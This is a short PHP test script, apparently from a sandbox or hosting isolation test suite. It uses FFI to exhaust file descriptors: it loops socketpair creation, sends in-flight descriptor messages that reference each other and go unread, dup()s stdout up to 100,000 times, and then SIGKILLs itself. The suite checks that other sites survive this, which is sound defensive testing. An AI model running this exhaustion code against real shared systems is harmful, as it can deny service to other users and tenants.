<?php
/*
 * Exhausts descriptors.
 *
 * Attacker: opens files and sockets until it may not; puts descriptors in flight on sockets that
 *   nobody reads, in messages that hold each other; leaves all of it to the kernel by dying.
 * Must not happen: the front or site B cannot open a file or pass a descriptor.
 * Checked: site B's answers, of which some need a descriptor to be passed; site A serves again.
 */
require __DIR__ . '/attack.php';

tried('open descriptors');
$c = c();
$pair = $c->new('int[2]');
$flown = 0;
for ($round = 0; $round < 40 && $c->socketpair(1, 5, 0, FFI::addr($pair[0])) === 0; $round++) {
    while (send($pair[0], 'x', array_fill(0, 200, $pair[1])) > 0
        && send($pair[1], 'x', array_fill(0, 200, $pair[0])) > 0) {
        $flown += 400;
    }
}
for ($opened = 0; $opened < 100_000 && $c->dup(1) >= 0; $opened++);
usleep(100_000);
posix_kill(getmypid(), SIGKILL);
